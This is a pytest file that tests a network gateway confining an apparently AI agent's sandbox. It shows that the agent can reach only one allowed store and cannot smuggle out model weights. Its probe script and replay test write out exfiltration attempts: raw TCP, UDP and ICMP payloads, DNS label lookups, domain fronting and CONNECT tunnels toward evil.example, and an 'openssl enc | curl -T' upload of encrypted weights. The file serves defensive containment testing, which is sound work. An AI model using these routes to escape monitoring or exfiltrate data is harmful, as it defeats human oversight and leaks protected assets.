"""A closed world as an agent finds it in its box, on every provider, and what the evidence says."""

from __future__ import annotations

import json
import random
from dataclasses import replace

import anyio
import pytest
from inspect_ai.util import SandboxEnvironment

from sandbox import cell
from sandbox.cargo import canary
from sandbox.certificate.cells import fresh_cell
from sandbox.certify import certify
from sandbox.evidence import Reference, analyse
from sandbox.gateway.dns import address_of
from sandbox.gateway.manners import Manners
from sandbox.replay import Step, bytes_out, replay
from tests.gateway.test_allowed import captured, providers

STORE, OTHER = "store.corp.example", "evil.example"
CLOSED = Manners(allowed={STORE: "store"}, others="refuse")
AT_STORE = address_of(STORE)
WEIGHTS = random.Random(3).randbytes(60_000)

PROBES = f"""
import json, socket, ssl, struct, time
WEIGHTS = open("/tmp/w", "rb").read()
CONNECT = b"CONNECT {OTHER}:443"
STORE, OTHER, AT = {STORE!r}, {OTHER!r}, {AT_STORE!r}

def resolve(name):
    return socket.gethostbyname(name)

def tcp(address, port, data=WEIGHTS):
    with socket.create_connection((address, port), 5) as one:
        one.settimeout(5)
        time.sleep(0.1)
        one.sendall(data)
        return one.recv(99).decode().partition("\\r")[0]

def udp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(0.5)
        one.sendto(WEIGHTS[:1000], (address, 4444))
        return one.recv(99).decode()

def ping(address):
    v6 = ":" in address
    family, kind = (10, 128) if v6 else (2, 8)
    protocol = socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as one:
        one.settimeout(0.5)
        one.sendto(struct.pack("!BBHHH", kind, 0, 0, 1, 1) + WEIGHTS[:500], (address, 0))
        size = len(one.recv(2000)) - 8
        try:
            return "twice" if one.recv(2000) else ""
        except TimeoutError:
            return str(size)

def put(host, body=WEIGHTS):
    head = f"PUT /w HTTP/1.1\\r\\nHost: {{host}}\\r\\nContent-Length: {{len(body)}}\\r\\n\\r\\n"
    return head.encode() + body

def tls(name, host):
    context = ssl.create_default_context()
    with context.wrap_socket(socket.create_connection((AT, 443), 5), server_hostname=name) as one:
        one.sendall(put(host, b"w"))
        return one.recv(99).decode().partition("\\r")[0]

TRIES = {{
    "the store by address": lambda: tcp(AT, 80, put(AT, b"w")),
    "a name": lambda: resolve(OTHER),
    "a label": lambda: resolve(f"data.{{STORE}}"),
    "the store's name": lambda: resolve(STORE),
    "an address": lambda: tcp("8.8.8.8", 443),
    "an address and port": lambda: tcp("198.51.100.7", 9, b"w"),
    "IPv6": lambda: tcp("2001:db8::1", 80),
    "another resolver": lambda: tcp("1.1.1.1", 53),
    "a datagram": lambda: udp("203.0.113.9"),
    "a ping": lambda: ping("8.8.8.8"),
    "a ping6": lambda: ping("2001:db8::7"),
    "a ping to the store": lambda: ping(AT),
    "a ping to oneself": lambda: ping("127.0.0.1"),
    "a front": lambda: tcp(AT, 80, put(OTHER)),
    "a front in TLS": lambda: tls(STORE, OTHER),
    "another name in TLS": lambda: tls(OTHER, STORE),
    "a tunnel": lambda: tcp(AT, 80, put(OTHER).replace(b"PUT /w", CONNECT)),
    "a proxy's port": lambda: tcp(AT, 3128, put(OTHER).replace(b"PUT /w", CONNECT)),
    "SSH at the store": lambda: tcp(AT, 22),
    "a datagram to the store": lambda: udp(AT),
    "the store": lambda: tcp(AT, 80, put(STORE, b"w")),
    "the store by TLS": lambda: tls(STORE, STORE),
}}
results = {{}}
for name, attempt in TRIES.items():
    try:
        results[name] = attempt()
    except OSError as error:
        results[name] = type(error).__name__
print(json.dumps(results))
"""
RESET = {"ConnectionResetError", "BrokenPipeError"}


@providers
def test_only_the_allowed_service_is_there(provider: cell.Provider) -> None:
    counts: list[int] = []

    async def work(agent: SandboxEnvironment, gateway: SandboxEnvironment) -> str:
        await cell.furnish(gateway, CLOSED)
        await agent.write_file("/tmp/w", WEIGHTS)
        done = await agent.exec(["python3", "-"], input=PROBES, timeout=120)
        assert done.success, done.stderr
        counts.append(await cell.bytes_out(gateway))
        return done.stdout

    said, capture = captured(provider, work)
    results = json.loads(said)
    barred = ("an address", "an address and port", "IPv6", "another resolver")
    for name in (*barred, "a proxy's port", "SSH at the store"):
        assert results.pop(name) in RESET, name
    assert results == {
        "the store by address": "HTTP/1.1 200 OK",
        "a name": "gaierror",
        "a label": "gaierror",
        "the store's name": AT_STORE,
        "a datagram": "TimeoutError",
        "a ping": "TimeoutError",
        "a ping6": "TimeoutError",
        "a ping to the store": "TimeoutError",
        "a datagram to the store": "TimeoutError",
        "a ping to oneself": "500",
        "a front": "HTTP/1.1 403 Forbidden",
        "a front in TLS": "HTTP/1.1 403 Forbidden",
        "another name in TLS": "SSLError",
        "a tunnel": "HTTP/1.1 403 Forbidden",
        "the store": "HTTP/1.1 200 OK",
        "the store by TLS": "HTTP/1.1 200 OK",
    }
    assert all(stream.out for stream in capture.streams), "what was said before a reset is there"
    asked = {(e["name"], e.get("refused", False)) for e in capture.events if e["kind"] == "dns"}
    assert asked == {(STORE, False), (OTHER, True), (f"data.{STORE}", True)}
    report = analyse(capture, Reference([WEIGHTS]))
    everything = sum(len(stream.out) for stream in capture.streams)
    questions = [one for s in capture.streams if s.layer == "dns" for one in s.chunks]
    for one in questions:
        known = b"\x05store" in one.payload and b"\x04data" not in one.payload
        assert one.refused is (not known and one.direction == "out")
    # A question and three letters.
    assert report.weights_bytes == 0
    assert counts == [report.bytes_out] == [bytes_out(capture)]
    assert report.bytes_out < 1500 and report.bytes_out + report.refused_bytes == everything
    assert report.attempted and not report.complete
    assert report.weights_bytes_refused == len(WEIGHTS)


@pytest.mark.namespace
def test_a_replay_in_a_closed_world_counts_what_leaves_it() -> None:
    cargo = replace(canary(), manners=CLOSED)

    async def main(url: str) -> list[int]:
        script = f"openssl enc -aes-256-ctr -k x -pbkdf2 -in {cargo.path} | curl -sST - {url}"
        found = (await replay("namespace", cargo, [Step(("bash", "-c", script))], 0))["weights"]
        return [arm.bytes_out for arm in found.arms]

    full, half, sliver, other = anyio.run(main, f"http://{STORE}/r")
    assert full > 4_000_000 and full / half > 1.9 and half / sliver > 25
    assert abs(full - other) < 20_000
    assert anyio.run(main, "http://192.0.2.7/r") == [0, 0, 0, 0]


@pytest.mark.namespace
def test_a_closed_world_is_certified_too() -> None:
    async def main() -> list[str]:
        async with fresh_cell("namespace") as (agent, gateway):
            await cell.furnish(gateway, CLOSED)
            certificate = await certify(agent, gateway, scope="quiet")
            return [f"{probe.name}: {probe.detail}" for probe in certificate.failed]

    assert anyio.run(main) == []
